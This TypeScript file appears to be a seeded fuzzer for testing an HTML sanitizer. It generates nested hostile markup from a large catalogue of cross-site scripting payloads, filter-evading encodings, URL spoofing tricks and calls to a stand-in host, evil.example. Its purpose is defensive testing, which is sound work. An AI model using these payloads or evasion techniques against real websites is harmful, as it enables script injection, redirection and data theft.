import { hostileFixtures, ordinaryFixtures } from '../fixtures/index.ts';
import { Random } from './random.ts';

// A grammar of hostile HTML: all attack classes of the fixtures, nested in one another and then damaged
// as text. Documents depend only on the seed, so that findings can be reproduced.

const splitWords = (words: string): readonly string[] => words.trim().split(/\s+/);

const PLAIN_TAGS = splitWords(
  'p div span a b i em strong u s code h1 h2 h3 h6 ul ol li dl dt dd blockquote pre section article aside header footer nav figure figcaption details summary address q cite mark small sub sup time ruby rt rp bdi bdo ins del abbr kbd hgroup',
);
const DEPRECATED_TAGS = splitWords(
  'font center big tt strike nobr dir listing acronym marquee blink basefont multicol spacer rb rtc menu isindex image',
);
const TABLE_TAGS = splitWords('table caption colgroup col thead tbody tfoot tr td th');
const VOID_TAGS = splitWords(
  'img br hr wbr source track col area input embed param link meta base frame',
);
const FORM_TAGS = splitWords(
  'form input button select option optgroup textarea label fieldset legend datalist output keygen meter progress selectedcontent search',
);
const RAW_TEXT_TAGS = splitWords(
  'script style title textarea xmp iframe noembed noframes noscript plaintext listing template',
);
const HEAD_TAGS = splitWords('html head body base link meta title style script frameset frame');
const EMBED_TAGS = splitWords(
  'object embed applet param portal fencedframe canvas dialog slot map area video audio picture source track iframe permission geolocation webview model usermedia',
);
const CUSTOM_TAGS = splitWords(
  'x-widget constructor __proto__ prototype tostring valueof hasownproperty a:b svg:script o:p xml v:shape p1 custom-element',
);
const SVG_TAGS = splitWords(
  'svg g a script style title desc foreignObject image use animate animateMotion animateTransform set text tspan textPath path circle rect filter feImage mask pattern linearGradient marker symbol switch view metadata discard handler listener iframe',
);
const MATH_TAGS = splitWords(
  'math mi mo mn ms mtext mglyph malignmark annotation annotation-xml semantics maction mrow mtable mtr mtd mpadded mphantom menclose mprescripts none mstyle merror',
);
const INTEGRATION_TAGS = splitWords('foreignObject desc title mi mo mn ms mtext annotation-xml');

const HANDLERS = splitWords(
  'onload onerror onclick onfocus onblur onfocusin onfocusout onmouseover onmouseenter onmousemove onmouseout onmousedown onmouseup onpointerover onpointerenter onpointerdown onpointerup onpointermove onpointerrawupdate ongotpointercapture onwheel onscroll onscrollend onscrollsnapchange onkeydown onkeyup onkeypress oninput onbeforeinput onchange onsubmit onreset oninvalid onselect onselectstart ontoggle onbeforetoggle oncancel onclose oncommand oncontextmenu oncopy oncut onpaste onbeforecopy ondragstart ondragenter ondrop onanimationstart onanimationend onanimationiteration ontransitionrun ontransitionstart ontransitionend ontransitioncancel onwebkitanimationstart onwebkittransitionend oncontentvisibilityautostatechange onbeforematch onplay onplaying onloadstart onloadeddata oncanplay onprogress onsuspend onstalled ontimeupdate onvolumechange onbegin onend onrepeat onstart onfinish onbounce onpageshow onhashchange onpopstate onmessage onresize onunload onbeforeunload onbeforeprint onafterprint onslotchange onsecuritypolicyviolation onfullscreenchange onauxclick ondblclick ontouchstart onactivate onpropertychange onreadystatechange onlocation onpromptaction',
);
/** Attributes with a meaning to browsers, React, or our rules. */
const SPECIAL_ATTRIBUTES = splitWords(
  'autofocus contenteditable tabindex accesskey hidden inert draggable popover popovertarget popovertargetaction commandfor command interesttarget interestfor is slot part exportparts anchor nonce integrity async defer nomodule blocking fetchpriority shadowrootmode shadowrootdelegatesfocus shadowrootclonable autoplay loop muted controls open required disabled checked selected multiple readonly novalidate formnovalidate allowfullscreen credentialless typemustmatch ismap translate spellcheck virtualkeyboardpolicy writingsuggestions headingoffset headingreset focusgroup closedby',
);
const ATTRIBUTE_NAMES = splitWords(
  'id name class title lang dir role style for headers form list target rel type method enctype as media sizes http-equiv content charset property itemprop precedence key ref children dangerouslysetinnerhtml innerhtml outerhtml textcontent defaultvalue defaultchecked suppresscontenteditablewarning suppresshydrationwarning constructor __proto__ tostring hasownproperty aria-label aria-hidden aria-labelledby aria-live aria-modal aria-owns aria-activedescendant aria-describedby data-external data-truncated data-callout data-column data-columns data-table data-file data-hidden-label data-placeholder data-load-state data-theme data-menu data-testid data-reactroot colspan rowspan span scope headers abbr value start reversed width height border cellpadding bgcolor align valign face color size hspace vspace nowrap clear compact datetime srclang kind label default xmlns xmlns:xlink xml:base xml:space encoding definitionurl actiontype attributename values from to by begin dur fill sandbox allow csp referrerpolicy loading decoding crossorigin usemap shape coords download hreflang preload playsinline controlslist',
);
const URL_ATTRIBUTES = splitWords(
  'href src action formaction data poster background cite longdesc ping manifest codebase classid archive code profile usemap lowsrc dynsrc srcdoc srcset imagesrcset icon xlink:href xml:base attributionsrc src archive dsrc',
);
const ATTRIBUTE_VALUES = splitWords(
  'x 1 -1 0 true false _blank _self _top _parent portal pwned location config attributes childNodes firstChild parentNode nodeName getAttribute body head cookie forms __proto__ constructor prototype toString user-content-x user-content- app root portal-config dialog alertdialog alert status application button link none presentation note list img heading rtl ltr auto stylesheet preload prefetch modulepreload import dns-prefetch preconnect manifest text/html text/javascript module importmap speculationrules image/svg+xml application/xhtml+xml multipart/x-mixed-replace refresh content-security-policy set-cookie open closed manual hint show-modal toggle-popover 99999 1e9 Infinity NaN',
);
const CLASSES = splitWords(
  'row col col-3 col-9 placeholder callout alert alert-danger note tip warning wp-caption wp-caption-text modal fixed inset-0 sr-only pp-dialog hidden root ui-button MsoNormal Apple-converted-space __proto__ constructor',
);
const TEXTS = [
  'text',
  ' ',
  '\n',
  '\r\n',
  '\t\t',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u202e reversed',
  '\u2066isolate',
  '\0',
  '\ufffd',
  '\ud800',
  '\udc00x',
  '\ufdd0style=x',
  '\u2028',
  '\u0085',
  '&nbsp;',
  '&amp;',
  '&lt;img src=x onerror=1&gt;',
  '&amp;lt;script&amp;gt;',
  '&#0;',
  '&#x80;',
  '&#xd800;',
  '&#1114112;',
  '&notin;&notit;&not',
  '&ltimg',
  '+ADw-script+AD4-',
  '\u00bcscript\u00be',
  '<',
  '>',
  '</',
  '<!',
  '<?',
  '</>',
  '< p>',
  '<3',
  '"',
  "'",
  '`',
  '=',
  ']]>',
  '-->',
  '{{constructor}}',
  '${7}',
];
const PROPERTIES = splitWords(
  'background background-image background-color color width height max-width min-height max-height margin margin-top margin-left margin-inline margin-block-start padding position top left right bottom inset z-index transform translate scale rotate zoom opacity filter clip clip-path mask mask-image list-style list-style-image list-style-type content cursor behavior -moz-binding animation animation-name transition font font-family font-size line-height letter-spacing word-spacing text-indent vertical-align float display visibility overflow white-space direction unicode-bidi writing-mode columns column-count border border-image border-top outline box-shadow shape-outside offset-path anchor-name position-anchor view-transition-name content-visibility pointer-events user-select float clear text-decoration text-transform --ui-color-text all src @import @media @font-face',
);
const STYLE_VALUES = splitWords(
  'red transparent #fff inherit initial unset revert revert-layer auto none 0 1px -1px -9999px 2000px 9999px 2000pt 400em 100vw 100vh 999 0.0001px 1e9px calc(1px+1px) calc(-1*9e9px) min(1px,2px) var(--ui-color-text) env(x) attr(title) fixed absolute sticky relative hidden visible block inline-block none table-cell bidi-override rtl right bold url(https://evil.example/ID) url("https://evil.example/ID") url(javascript:CODE) u\\72l(https://evil.example/ID) \\75\\72\\6c(//evil.example/ID) image-set("https://evil.example/ID"1x) -webkit-image-set(url(https://evil.example/ID)1x) cross-fade(url(//evil.example/ID),red) element(#app) paint(x) expression(CODE) rgb(0,0,0) rgba(0,0,0,0) hsl(1deg,2%,3%) rgb(url(//evil.example/ID)) color-mix(in_srgb,red,blue) light-dark(red,blue) "x;color:red" \'unclosed "unclosed Arial,"Times_New_Roman" scale(99) matrix(9,0,0,9,0,0) url(data:image/svg+xml,<svg/onload=CODE>) \\ /**/ <!-- --> ;; {} }body{display:none} !important',
);
const COMMENTS: readonly (readonly [string, string])[] = [
  ['<!--', '-->'],
  ['<!-->', ''],
  ['<!--->', '-->'],
  ['<!--', '--!>'],
  ['<!', '>'],
  ['<?', '?>'],
  ['<?xml-stylesheet ', '>'],
  ['</ ', '>'],
  ['<![CDATA[', ']]>'],
  ['<!--[if IE]>', '<![endif]-->'],
  ['<!DOCTYPE html [', ']>'],
  ['<!--', ''],
];
const SEPARATORS = [' ', ' ', ' ', '\n', '\t', '\f', '/', '//', ' / ', '\r', '\v', '\0', ''];
const NAMED_ENTITIES: Readonly<Record<string, string>> = {
  ':': '&colon;',
  '(': '&lpar;',
  ')': '&rpar;',
  '/': '&sol;',
  '.': '&period;',
  '\t': '&Tab;',
  '\n': '&NewLine;',
  '"': '&quot;',
  '<': '&lt;',
  '>': '&gt;',
};
const FIXTURES = [...hostileFixtures, ...ordinaryFixtures].map(({ input }) => input);

/** Writes one document. Each method returns a random part of it. */
class Writer {
  readonly #random: Random;
  readonly #id: number;

  constructor(random: Random, id: number) {
    this.#random = random;
    this.#id = id;
  }

  /** Writes code that passes the seed to `pwned`, or that the `Sentinel` detects in another way when it runs. */
  code(): string {
    const id = this.#id;
    return this.#random.pick([
      `pwned(${id})`,
      `pwned(${id})`,
      `top.pwned(${id})`,
      `parent.pwned(${id})`,
      `self['pwn'+'ed'](${id})`,
      `(pwned)(${id})`,
      `pwned\`${id}\``,
      `alert(${id})`,
      `setTimeout(pwned,0,${id})`,
      `throw onerror=pwned,${id}`,
      `fetch('https://evil.example/${id}')`,
      `import('https://evil.example/${id}.js')`,
      `location='https://evil.example/${id}'`,
      `document.title=${id}`,
    ]);
  }

  text(): string {
    return this.#random.repeat(1, 3, () => this.#random.pick(TEXTS));
  }

  /** Encodes text so that browsers might still understand it while filters miss it. */
  disguise(text: string): string {
    const random = this.#random;
    const rate = random.pick([0, 0.05, 0.3, 1]);
    return Array.from(text)
      .map((character) => {
        if (!random.chance(rate)) return character;
        const code = character.codePointAt(0) ?? 0;
        return random.choose([
          [3, () => `&#${random.pick(['', '0', '0000000'])}${code}${random.pick([';', ''])}`],
          [3, () => `&#${random.pick(['x', 'X'])}${code.toString(16)}${random.pick([';', ''])}`],
          [2, () => random.pick(['\t', '\n', '\r', '&Tab;', '&NewLine;', '&#10;']) + character],
          [1, () => random.pick(['\0', '\u0001', '\u00ad', '\u200b', '\ufeff']) + character],
          [2, () => NAMED_ENTITIES[character] ?? character],
          [2, () => character.toUpperCase()],
          [1, () => `%${code.toString(16).padStart(2, '0')}`],
          [1, () => (code > 32 && code < 127 ? String.fromCodePoint(code + 0xfee0) : character)],
        ]);
      })
      .join('');
  }

  url(): string {
    const random = this.#random;
    const id = this.#id;
    const before = random.pick([
      '',
      '',
      '',
      '',
      ' ',
      '\t',
      '\u0001',
      '\u00a0',
      '\u2003',
      '&#1;',
      '\ufeff',
    ]);
    const dangerousHost = random.pick([
      'evil.example',
      'EVIL.example',
      'evil\u3002example',
      'ev\u0456l.example',
      'xn--evl-ipa.example',
      'img.example.com.evil.example',
      'img.example.com@evil.example',
      'portal.example.com:443@evil.example',
      'evil.example:8443',
      '[::1]',
      '2130706433',
      '0x7f.1',
      'evil.example\\@img.example.com',
      'img.example.com%00.evil.example',
      'img.example.com%2eevil.example',
      'evilimg.example.com',
    ]);
    return random.choose([
      [
        8,
        () =>
          before +
          this.disguise(
            random.pick([
              'javascript:',
              'JaVaScRiPt:',
              'javascript://%0a',
              'javascript:/*--></style></title>*/',
              'vbscript:',
              'livescript:',
              'mocha:',
              'feed:javascript:',
              'view-source:javascript:',
              'jar:javascript:',
              'x-javascript:',
            ]) + this.code(),
          ),
      ],
      [
        4,
        () =>
          before +
          this.disguise(
            random.pick([
              'data:text/html,',
              'data:,',
              'data:text/html;base64,',
              'data:image/svg+xml,',
              'data:image/svg+xml;base64,',
              'data:application/xml,',
              'data:text/javascript,',
              'data:image/png,',
              'data:image/png;base64,',
              'data:;base64,',
            ]),
          ) +
          random.pick([
            `<script>${this.code()}</script>`,
            `<svg onload=${this.code()}>`,
            'iVBORw0KGgo=',
            'PHNjcmlwdD4=',
            this.code(),
          ]),
      ],
      [
        6,
        () =>
          before +
          this.disguise(
            random.pick([
              'https://',
              'http://',
              '//',
              '\\\\',
              '/\\',
              '\\/',
              '/\t/',
              'https:',
              'https:/',
              'https:\\\\',
              '///',
              '////',
              '/.//',
              '..//',
              './/',
              'ftp://',
              'ws://',
              'HTTPS://',
              '/%09/',
              '/%2f/',
              'h\nttps://',
              '.\\/',
            ]) + `${dangerousHost}/${id}`,
          ),
      ],
      [
        3,
        () =>
          random.pick([
            'https://img.example.com/a.png',
            'https://player.example.com/v/1',
            'https://media.example.com/a.mp4',
            'http://player.example.com/v',
            '/a.png',
            '/x.js',
            'a.png',
            '?q=1',
            '#',
            '#x',
            '#top',
            '#:~:text=x',
            '#user-content-x',
            '.',
            '..',
            '',
            ' ',
            'about:blank',
            'about:srcdoc',
            'blob:https://portal.example.com/1',
            'filesystem:https://portal.example.com/temporary/a',
            'file:///etc/passwd',
            'mailto:a@example.com?body=<script>',
            'tel:555-0100',
            'sms:1',
            'intent:#Intent;end',
            'ms-word:ofe|u|https://evil.example/',
            'chrome://settings',
            'cid:x',
            'urn:x',
            'https://',
            'https://[',
            'https://%',
            '//',
            'https://portal.example.com//evil.example/',
            `https://portal.example.com/../..//evil.example/${id}`,
          ]),
      ],
      [1, () => random.pick(ATTRIBUTE_VALUES)],
    ]);
  }

  urlList(): string {
    const random = this.#random;
    return random.repeat(
      1,
      4,
      () =>
        this.url() +
        random.pick(['', ' 1x', ' 2x', ' 100w', ' 1x 2x', ' (,)', ' -1w', ' 1e1x']) +
        random.pick([',', ', ', ' , ', ',,', ' ', '']),
    );
  }

  style(): string {
    const random = this.#random;
    return random.repeat(1, 4, () => {
      const value = random
        .repeat(1, 2, () => random.pick(STYLE_VALUES) + random.pick(['', ' ']))
        .replaceAll('_', ' ')
        .replaceAll('ID', String(this.#id))
        .replaceAll('CODE', this.code());
      const end = random.pick([';', ';', ';', '', '!important;', ';;', '\n', '}', '/*']);
      return `${this.corrupt(random.pick(PROPERTIES), 0.05)}${random.pick([':', ' : ', ':/**/', '='])}${value}${end}`;
    });
  }

  /** Closes elements that might be open at this point, then adds an attack. */
  breakout(): string {
    const random = this.#random;
    const endTags = random.repeat(0, 4, () =>
      random.choose([
        [
          3,
          () =>
            `</${random.pick([...RAW_TEXT_TAGS, ...INTEGRATION_TAGS, 'svg', 'math', 'table', 'select', 'p', 'a'])}>`,
        ],
        [1, () => random.pick(['-->', '--!>', ']]>', '">', "'>", '`>', '>', '?>', '%>', '*/'])],
      ]),
    );
    return endTags + this.attack();
  }

  /** Writes short markup that tries to run code, load something, or change the page. */
  attack(): string {
    const random = this.#random;
    const code = this.code();
    const id = this.#id;
    return random.pick([
      `<img src=x onerror=${code}>`,
      `<img src onerror="${code}">`,
      `<svg onload=${code}>`,
      `<svg><script>${code}</script></svg>`,
      `<script>${code}</script>`,
      `<script src="https://evil.example/${id}.js"></script>`,
      `<script async src="//evil.example/${id}.js"></script>`,
      `<iframe srcdoc="<script>parent.pwned(${id})</script>"></iframe>`,
      `<iframe src="javascript:parent.pwned(${id})"></iframe>`,
      `<details open ontoggle=${code}>`,
      `<input autofocus onfocus=${code}>`,
      `<video><source onerror=${code}></video>`,
      `<a href="javascript:${code}">go</a>`,
      `<form action="javascript:${code}"><button>go</button></form>`,
      `<button formaction="javascript:${code}" form=f>go</button>`,
      `<object data="javascript:${code}"></object>`,
      `<embed src="javascript:${code}">`,
      `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
      `<meta http-equiv=refresh content="0;url=https://evil.example/${id}">`,
      `<base href="https://evil.example/${id}/">`,
      `<link rel=stylesheet href="https://evil.example/${id}.css" precedence=high>`,
      `<link rel=preload as=image imagesrcset="https://evil.example/${id} 1x">`,
      `<style>@import "https://evil.example/${id}.css";body{display:none}</style>`,
      `<title>${id}</title>`,
      `<body onload=${code} style="display:none" class=x>`,
      `<math><a xlink:href="javascript:${code}">go</a></math>`,
      `<math href="javascript:${code}">go</math>`,
      `<svg><a><animate attributeName=href values="javascript:${code}"/><text y=9>go</text></a></svg>`,
      `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${code}'/>#x"/></svg>`,
      `<svg><set attributeName=onclick to=${code} /></svg>`,
      `<button popovertarget=p${id}>go</button><p popover id=p${id} onbeforetoggle=${code}>x</p>`,
      `<button commandfor=d${id} command=show-modal>go</button><dialog id=d${id} ontoggle=${code}>x</dialog>`,
      `<div><template shadowrootmode=open><img src=x onerror=${code}></template></div>`,
      `<script type=importmap>{"imports":{"react":"https://evil.example/${id}.js"}}</script>`,
      `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.example/${id}"]}]}</script>`,
      `<p ref=x key=x is=x-x dangerouslysetinnerhtml=x>t</p>`,
      `<p style="position:fixed;inset:0;z-index:9;background:url(https://evil.example/${id})">t</p>`,
      `<a href="https://evil.example/${id}" style="font-size:2000px;line-height:0;color:transparent">t</a>`,
      `<div style="height:0"><a href="https://evil.example/${id}" style="display:block;height:2000px">t</a></div>`,
      `<a ping="https://evil.example/${id}" href="/x" attributionsrc="https://evil.example/${id}">t</a>`,
      `<x onclick=${code} tabindex=1 autofocus onfocus=${code}>t</x>`,
      `<form id=f><input name=attributes><input name=parentNode><input name=nodeType></form>`,
      `<img name=body id=app src="https://evil.example/${id}" srcset="https://evil.example/${id} 1x">`,
    ]);
  }

  attribute(): string {
    const random = this.#random;
    const [name, value] = random.choose<[string, string]>([
      [6, () => [random.pick(HANDLERS), this.disguise(this.code())]],
      [6, () => [random.pick(URL_ATTRIBUTES), this.url()]],
      [2, () => [random.pick(['srcset', 'imagesrcset', 'ping']), this.urlList()]],
      [5, () => ['style', this.style()]],
      [4, () => [random.pick(ATTRIBUTE_NAMES), random.pick(ATTRIBUTE_VALUES)]],
      [2, () => [random.pick(SPECIAL_ATTRIBUTES), random.pick([...ATTRIBUTE_VALUES, ''])]],
      [2, () => ['class', random.repeat(1, 3, () => `${random.pick(CLASSES)} `)]],
      [
        2,
        () => [
          random.pick(['id', 'name']),
          random.pick(ATTRIBUTE_VALUES) + random.pick(['', String(this.#id)]),
        ],
      ],
      [
        3,
        () => [
          random.pick(['title', 'alt', 'aria-label', 'abbr', 'label', 'content']),
          this.breakout(),
        ],
      ],
      [1, () => ['srcdoc', `<script>parent.pwned(${this.#id})</script>`]],
      [
        0.2,
        () => [random.pick(['title', 'x', 'href']), 'A'.repeat(random.pick([300, 5_000, 70_000]))],
      ],
    ]);
    const attributeName = this.corrupt(random.chance(0.2) ? name.toUpperCase() : name, 0.03);
    return random.choose([
      [8, () => `${attributeName}="${value.replaceAll('"', '&quot;')}"`],
      [3, () => `${attributeName}='${value.replaceAll("'", '&#39;')}'`],
      [2, () => `${attributeName}=${value.replaceAll(/[\s>]/g, '&#32;')}`],
      [1, () => `${attributeName}="${value}"`],
      [1, () => `${attributeName} = "${value.replaceAll('"', '&quot;')}"`],
      [0.5, () => `${attributeName}=\`${value}\``],
      [0.5, () => attributeName],
      [0.3, () => `${attributeName}="${value}`],
      [0.3, () => `="${value.replaceAll('"', '')}"`],
    ]);
  }

  attributes(): string {
    const random = this.#random;
    const max = random.chance(0.005) ? 600 : 4;
    return random.repeat(0, max, () => random.pick(SEPARATORS) + this.attribute());
  }

  /** With the given probability, inserts, removes, or doubles a character. */
  corrupt(text: string, rate: number): string {
    const random = this.#random;
    if (!random.chance(rate)) return text;
    const index = random.below(text.length + 1);
    return random.choose([
      [
        2,
        () =>
          text.slice(0, index) +
          random.pick(['\0', '\ufdd0', ':', '-', '\u212a', '\u017f', '/', '<', '"', '\n', ' ']) +
          text.slice(index),
      ],
      [1, () => text.slice(0, index) + text.slice(index + 1)],
      [1, () => text.slice(0, index) + text.slice(index, index + 1) + text.slice(index)],
    ]);
  }

  tag(): string {
    const random = this.#random;
    const name = random.choose([
      [8, () => random.pick(PLAIN_TAGS)],
      [2, () => random.pick(DEPRECATED_TAGS)],
      [4, () => random.pick(TABLE_TAGS)],
      [2, () => random.pick(FORM_TAGS)],
      [1.5, () => random.pick(HEAD_TAGS)],
      [2, () => random.pick(EMBED_TAGS)],
      [1, () => random.pick(CUSTOM_TAGS)],
      [1.5, () => random.pick(SVG_TAGS)],
      [1, () => random.pick(MATH_TAGS)],
      [1, () => random.pick(RAW_TEXT_TAGS)],
    ]);
    return this.corrupt(random.chance(0.1) ? name.toUpperCase() : name, 0.02);
  }

  element(depth: number): string {
    const random = this.#random;
    const tag = random.chance(0.2) ? random.pick(VOID_TAGS) : this.tag();
    const start = `<${tag}${this.attributes()}${random.pick(['>', '>', '>', '>', '/>', ' >', '\n>', ''])}`;
    const content = this.nodes(depth - 1);
    return random.choose([
      [8, () => `${start}${content}</${tag}>`],
      [3, () => start + content],
      [1, () => `${start}${content}</${this.tag()}>`],
      [1, () => `${start}${content}</${tag} ${this.attributes()}>`],
      [0.5, () => `</${tag}>${start}${content}`],
    ]);
  }

  /** Writes an element whose content browsers read as text. The end tag is sometimes missing. */
  rawText(depth: number): string {
    const random = this.#random;
    const tag = random.pick(RAW_TEXT_TAGS);
    const content = random.chance(0.5) ? this.breakout() : this.nodes(depth - 1);
    return `<${tag}${this.attributes()}>${random.pick(['', '<!--', '<![CDATA[', `<${tag}>`, '<script>'])}${content}${random.pick([`</${tag}>`, `</${tag}>`, `</${tag}/>`, `</${tag} x>`, ''])}`;
  }

  /** Writes SVG, MathML, and HTML nested in one another, where text in one language is markup in another. */
  foreign(depth: number): string {
    const random = this.#random;
    const path = random.repeat(1, 4, () =>
      random.choose([
        [2, () => `<${random.pick(['svg', 'math'])}${this.attributes()}>`],
        [
          2,
          () =>
            `<${random.pick(INTEGRATION_TAGS)}${random.pick(['', ' encoding="text/html"', ' encoding=application/xhtml+xml'])}>`,
        ],
        [1, () => `<${random.pick([...SVG_TAGS, ...MATH_TAGS])}${this.attributes()}>`],
        [
          1,
          () =>
            `<${random.pick(['table', 'p', 'form', 'select', 'template', 'b', 'a', 'tr', 'td', 'style', 'ul'])}>`,
        ],
        [
          1,
          () =>
            `</${random.pick(['p', 'br', 'svg', 'math', 'form', 'table', 'desc', 'mtext', 'style'])}>`,
        ],
      ]),
    );
    const hidingMarkup = random.pick([
      '<style>',
      '<title>',
      '<!--',
      '<![CDATA[',
      '<mglyph><style>',
      '<malignmark><textarea>',
      '<noscript>',
      '<xmp>',
      '<iframe>',
      '<textarea>',
    ]);
    return `${path}${hidingMarkup}<${random.pick(['a', 'img', 'p', 'i'])} ${random.pick(['id', 'title', 'alt', 'href'])}="${this.breakout().replaceAll('"', '&quot;')}">${random.chance(0.5) ? this.nodes(depth - 1) : ''}`;
  }

  /** Writes formatting and tables closed out of order, which browsers fix by moving nodes. */
  misnestedTags(depth: number): string {
    const random = this.#random;
    const tags = splitWords(
      'a b i em p div table tr td caption li ul h1 h2 button select option form nobr font svg math dd dt ruby rt marquee object applet',
    );
    return random.repeat(3, 9, () =>
      random.choose([
        [4, () => `<${random.pick(tags)}${random.chance(0.4) ? this.attributes() : ''}>`],
        [3, () => `</${random.pick(tags)}>`],
        [2, () => this.text()],
        [1, () => (depth > 0 ? this.node(depth - 1) : '')],
      ]),
    );
  }

  deepNesting(): string {
    const random = this.#random;
    const unit = random.repeat(
      1,
      2,
      () =>
        `<${random.pick([...PLAIN_TAGS, ...TABLE_TAGS, 'svg', 'math', 'desc', 'mi', 'font', 'template', 'select', 'x-y'])}>`,
    );
    return unit.repeat(random.pick([5, 40, 120, 300, 600])) + this.breakout();
  }

  comment(depth: number): string {
    const random = this.#random;
    const [start, end] = random.pick(COMMENTS);
    return start + (random.chance(0.5) ? this.breakout() : this.nodes(depth - 1)) + end;
  }

  /** Returns a fixture, or a part of one. */
  fixture(): string {
    const random = this.#random;
    const input = random.pick(FIXTURES).replaceAll('pwned()', this.code());
    const from = random.chance(0.7) ? 0 : random.below(input.length);
    return input.slice(
      from,
      random.chance(0.7) ? undefined : from + 1 + random.below(input.length),
    );
  }

  node(depth: number): string {
    if (depth <= 0) return this.#random.chance(0.5) ? this.text() : this.attack();
    return this.#random.choose([
      [9, () => this.element(depth)],
      [3, () => this.text()],
      [3, () => this.attack()],
      [2, () => this.rawText(depth)],
      [3, () => this.foreign(depth)],
      [2, () => this.misnestedTags(depth)],
      [1.5, () => this.comment(depth)],
      [3, () => this.fixture()],
      [0.4, () => this.deepNesting()],
      [1, () => this.disguise(this.attack())],
    ]);
  }

  nodes(depth: number): string {
    return this.#random.repeat(0, 3, () => this.node(depth));
  }

  document(): string {
    const html = this.#random.repeat(1, 4, () => this.node(1 + this.#random.below(4)));
    const times = this.#random.pick([0, 0, 0, 1, 2, 6]);
    return Array.from({ length: times }).reduce<string>((text) => this.corrupt(text, 1), html);
  }
}

/**
 * Generates a hostile document.
 *
 * @param seed any integer. Code in the document passes it to `pwned`, and most `evil.example` URLs contain it.
 * @example generate(7) === generate(7)
 */
export function generate(seed: number): string {
  return new Writer(new Random(seed), seed).document();
}
